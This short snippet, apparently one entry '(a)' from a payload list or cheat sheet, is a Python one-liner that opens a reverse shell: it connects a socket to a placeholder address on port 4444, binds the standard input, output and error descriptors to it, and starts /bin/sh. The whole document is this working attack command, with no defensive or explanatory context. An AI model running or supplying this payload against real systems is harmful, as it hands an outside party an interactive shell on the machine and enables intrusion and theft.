# (a) A shell whose three descriptors are a socket, from Python.
python3 -c "import os,socket,subprocess
s = socket.create_connection(('$SCENE_ADDRESS', 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
subprocess.call(['/bin/sh'])"
